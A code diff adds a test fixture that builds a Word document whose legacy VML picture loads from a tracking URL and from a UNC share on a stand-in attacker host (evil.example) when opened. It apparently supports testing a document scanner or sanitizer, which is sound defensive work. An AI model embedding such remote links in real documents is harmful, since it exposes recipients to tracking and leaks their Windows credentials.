@@ -700,3 +700,12 @@ def rich_pptx() -> bytes:
     out = io.BytesIO()
     deck.save(out)
     return out.getvalue()
+
+
+def vml_linked_picture() -> bytes:
+    """A legacy VML picture that loads from a web server and from a share when opened."""
+    return _docx_with(
+        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s9" style="width:10pt;height:10pt">'
+        '<v:imagedata xmlns:o="urn:schemas-microsoft-com:office:office" o:href="https://tracker.example/p.png" '
+        'src="\\\\evil.example\\share\\p.png"/></v:shape></w:pict></w:r></w:p>'
+    )
